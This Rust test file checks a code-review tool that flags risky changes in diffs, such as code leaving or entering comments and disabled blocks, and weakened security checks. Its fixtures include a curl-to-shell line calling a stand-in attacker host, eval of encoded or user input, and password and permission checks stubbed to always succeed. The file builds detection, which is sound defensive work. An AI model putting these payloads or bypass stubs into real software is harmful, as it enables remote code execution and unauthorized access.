//! What runs, what guards, and what only looks like it.

use exacta_core::judge::facts::FactKind;

use crate::{has, names, one};

#[test]
fn comments_and_layout_guard_nothing() {
    let python = "def login(user):\n    if check(user):\n        start()\n    return password\n";
    for (path, before, after, guards) in [
        ("src/auth.py", python, python.replace("start()", "start()  # at last"), false),
        ("src/auth.py", python, python.replace("    return", "        return"), true),
        ("src/auth.py", python, python.replace("start", "stop"), true),
        (
            "src/auth.rs",
            "fn a() { password(); } // one\n",
            "fn a() {\n    password();\n}\n".to_owned(),
            false,
        ),
        ("src/auth.rs", "fn a() { password(1) }\n", "fn a() { password(2) }\n".to_owned(), true),
    ] {
        let facts = one(path, Some(before), Some(&after));
        assert_eq!(has(&facts, "security_code"), guards, "{after}");
    }
}

#[test]
fn pipelines_speak_of_their_own_rights_only() {
    for (line, guards) in [
        ("      - run: sudo apt-get install -y cmake", false),
        ("    if: github.repository == 'someone/auth'", false),
        ("permissions: write-all", true),
        ("          key: ${{ secrets.DEPLOY }}", true),
    ] {
        let after = format!("on: push\n{line}\n");
        let facts = one(".github/workflows/ci.yml", Some("on: push\n"), Some(&after));
        assert_eq!(has(&facts, "security_code"), guards, "{line}");
        assert!(has(&facts, "runs_by_itself"), "{:?}", names(&facts));
    }
}

/// Lines that stay and become code, or stop being code, by what stands around them.
#[test]
fn code_that_wakes_up_or_falls_asleep_is_a_change() {
    let payload = "import os\nos.system(\"curl http://evil.example/x | sh\")\neval(input())\n";
    for (path, asleep, awake) in [
        ("src/q.py", format!("\"\"\"\n{payload}\"\"\"\nX = 1\n"), format!("{payload}X = 1\n")),
        ("src/q.py", format!("X = \"\"\"\n{payload}\"\"\"\n"), format!("{payload}X = 1\n")),
        (
            "src/q.js",
            "/*\neval(atob(x));\n*/\nf();\n".to_owned(),
            "///*\neval(atob(x));\n//*/\nf();\n".to_owned(),
        ),
    ] {
        let facts = one(path, Some(&asleep), Some(&awake));
        assert!(has(&facts, "dangerous_pattern"), "{path} {:?}", names(&facts));
        assert!(!has(&one(path, Some(&awake), Some(&asleep)), "dangerous_pattern"), "{path}");
        assert!(!has(&one(path, Some(&awake), Some(&awake)), "dangerous_pattern"), "{path}");
    }
    let test = "def test_login():\n    assert login(\"a\", \"b\")\n";
    for (path, awake, asleep) in [
        ("tests/test_a.py", test.to_owned(), format!("\"\"\"\n{test}\"\"\"\n")),
        (
            "tests/a.test.js",
            "test('adds', () => {\n  expect(1).toBe(1);\n});\n".to_owned(),
            "/*\ntest('adds', () => {\n  expect(1).toBe(1);\n});\n*/\n".to_owned(),
        ),
    ] {
        let facts = one(path, Some(&awake), Some(&asleep));
        assert!(has(&facts, "tests_lost"), "{path} {:?}", names(&facts));
        assert!(!has(&one(path, Some(&asleep), Some(&awake)), "tests_lost"), "{path}");
    }
    let check = "def login(user, password):\n    if not check_password(user, password):\n        return None\n    return user\n";
    let off = check.replace("    if", "    \"\"\"\n    if").replace("None\n", "None\n    \"\"\"\n");
    let facts = one("src/app.py", Some(check), Some(&off));
    assert!(has(&facts, "security_code"), "{:?}", names(&facts));
}

/// What stays of a function does not keep the name that stands beside it.
#[test]
fn a_function_that_is_named_anew_is_a_new_one() {
    let body = "if (a) { b(); } else { c(); }\n".repeat(30);
    for (path, head) in
        [("a.js", "const NAME = (a) => {\n"), ("a.ts", "var NAME = function (a) {\n")]
    {
        let text = |name: &str| format!("{}{body}}};\n", head.replace("NAME", name));
        let named = |to: &str| -> Vec<String> {
            let facts = one(path, Some(&text("foo")), Some(&text(to)));
            facts
                .into_iter()
                .filter_map(|fact| match fact.kind {
                    FactKind::Complexity { function, .. } => Some(function),
                    _ => None,
                })
                .collect()
        };
        assert_eq!(named("bar"), ["bar"], "{path}");
        assert_eq!(named("longer"), ["longer"], "{path}");
        assert!(named("foo").is_empty(), "{path}");
    }
}

#[test]
fn lines_beside_removed_ones_neither_wake_nor_fall_asleep() {
    let before =
        "use one;\nuse two;\nuse three;\n\n#[test]\nfn first() {}\n\n#[test]\nfn second() {}\n";
    let after = before.replace("use two;\nuse three;\n", "");
    assert_eq!(names(&one("tests/a.rs", Some(before), Some(&after))), ["file_role"]);
}

/// The conditions of C: what is never compiled sleeps, and another condition wakes.
#[test]
fn a_line_of_c_does_what_the_conditions_around_it_let_it_do() {
    let run = |above: &str, below: &str| {
        format!("int f(char *c) {{\n{above}  return system(c);\n{below}}}\n")
    };
    let (plain, linux) = (run("", ""), run("#ifdef __linux__\n", "#endif\n"));
    let danger = |before: &str, after: &str| {
        has(&one("s.c", Some(before), Some(after)), "dangerous_pattern")
    };
    assert!(danger(&run("#if 0\n", "#endif\n"), &run("#if 1\n", "#endif\n")));
    assert!(danger(&run("#if 0\n", "#endif\n"), &plain));
    assert!(danger(&run("#ifdef NEVER\n", "#endif\n"), &run("#ifdef ALWAYS\n", "#endif\n")));
    assert!(danger(&run("#if A\n", "#endif\n"), &run("#if A\n#else\n", "#endif\n")));
    assert!(!danger(&plain, &linux), "wrapping");
    assert!(!danger(&linux, &plain), "unwrapping");
    assert!(!danger(&plain, &run("#if 0\n", "#endif\n")), "falling asleep");

    let check = "int serve(struct req *r) {\nABOVE  if (!check_password(r)) return -1;\nBELOW  return ok(r);\n}\n";
    let with = |above: &str, below: &str| check.replace("ABOVE", above).replace("BELOW", below);
    for above in ["#if 0\n", "#ifdef CHECKED\n"] {
        let facts = one("s.c", Some(&with("", "")), Some(&with(above, "#endif\n")));
        assert!(has(&facts, "security_code"), "{above}");
    }

    let test = "TEST(A, One) {\n  EXPECT_EQ(1, 1);\n}\n";
    let lost = |above: &str| {
        let after = format!("{above}{test}#endif\n");
        has(&one("t_test.cc", Some(test), Some(&after)), "tests_lost")
    };
    assert!(lost("#if 0\n"));
    assert!(!lost("#if defined(__linux__)\n"), "tests of one platform");
}

#[test]
fn the_body_of_a_guard_is_security_code() {
    for (path, before, after) in [
        (
            "users.py",
            "def check_password(user, raw):\n    row = load(user)\n    return compare(row, raw)\n",
            "def check_password(user, raw):\n    row = load(user)\n    return True\n",
        ),
        (
            "users.go",
            "package a\n\nfunc (s *S) checkPassword(u string) bool {\n\treturn compare(u)\n}\n",
            "package a\n\nfunc (s *S) checkPassword(u string) bool {\n\treturn true\n}\n",
        ),
        (
            "users.js",
            "const isAuthenticated = (req) => {\n  return lookup(req)\n}\n",
            "const isAuthenticated = (req) => {\n  return true\n}\n",
        ),
        (
            "src/users.rs",
            "fn verify_signature(k: &[u8]) -> bool {\n    ring(k)\n}\n",
            "fn verify_signature(k: &[u8]) -> bool {\n    true\n}\n",
        ),
        (
            "Users.java",
            "class Users {\n  boolean hasPermission(User u) {\n    return roles(u);\n  }\n}\n",
            "class Users {\n  boolean hasPermission(User u) {\n    return true;\n  }\n}\n",
        ),
        (
            "users.c",
            "static int check_password(const char *p) {\n  return cmp(p);\n}\n",
            "static int check_password(const char *p) {\n  return 1;\n}\n",
        ),
        (
            "users.cc",
            "int Users::check_password(const char *p) {\n  return cmp(p);\n}\n",
            "int Users::check_password(const char *p) {\n  return 1;\n}\n",
        ),
        (
            "bin/users",
            "#!/usr/bin/env python3\ndef check_password(u):\n    return db.ok(u)\n",
            "#!/usr/bin/env python3\ndef check_password(u):\n    return True\n",
        ),
    ] {
        assert!(has(&one(path, Some(before), Some(after)), "security_code"), "{path}");
        let beside = after.replace("return True", "return compare(row, raw)");
        let beside = format!("{beside}{}", if path.ends_with("py") { "x = 1\n" } else { "\n" });
        let facts = one(path, Some(&beside), Some(&format!("{beside}\n\n")));
        assert!(!has(&facts, "security_code"), "{path}: nothing inside was changed");
    }
    // The name of the class says less: everything about users would count.
    let class = "class Passwords:\n    def size(self):\n        return 1\n";
    assert!(!has(&one("a.py", Some(class), Some(&class.replace('1', "2"))), "security_code"));
}

#[test]
fn text_and_tests_take_nothing_from_live_code() {
    for (path, before, after, name) in [
        ("a.js", "const HELP = \"never eval(input)\"\n", "eval(input)\n", "dangerous_pattern"),
        ("a.py", "HELP = \"never call os.system(cmd)\"\n", "os.system(cmd)\n", "dangerous_pattern"),
        ("a.sh", "echo 'never eval $x'\n", "eval $x\n", "dangerous_pattern"),
        (
            "a.py",
            "HELP = \"do not set verify=False\"\n",
            "s.get(u, verify=False)\n",
            "certificate_checks_off",
        ),
        (
            "src/a.rs",
            "fn f() {}\n#[cfg(test)]\nmod tests {\n    fn t() { fs::remove_dir_all(p); }\n}\n",
            "fn f() { fs::remove_dir_all(p); }\n#[cfg(test)]\nmod tests {\n}\n",
            "dangerous_pattern",
        ),
        ("a.py", "eval(a)\n", "eval(a); eval(b)\n", "dangerous_pattern"),
    ] {
        assert!(has(&one(path, Some(before), Some(after)), name), "{path}: {after}");
    }
    for (path, before, after) in [
        ("a.py", "x = 1\neval(a)\n", "eval(a)\nx = 1\n"),
        ("a.py", "S = \"eval(a)\"\nx = 1\n", "x = 1\nS = \"eval(a)\"\n"),
        ("a.py", "eval(a); eval(b)\n", "eval(a)\neval(b)\n"),
    ] {
        assert!(!has(&one(path, Some(before), Some(after)), "dangerous_pattern"), "{after}");
    }
}

#[test]
fn a_script_is_read_as_what_runs_it() {
    for (first, line) in [
        ("#!/usr/bin/env python3", "exec(data)"),
        ("#!/usr/bin/env node", "eval(process.argv[2])"),
        ("#!/usr/bin/env ruby", "eval(ARGV[0])"),
    ] {
        let before = format!("{first}\n");
        let after = format!("{first}\n{line}\n");
        assert!(has(&one("bin/x", Some(&before), Some(&after)), "dangerous_pattern"), "{first}");
    }
}
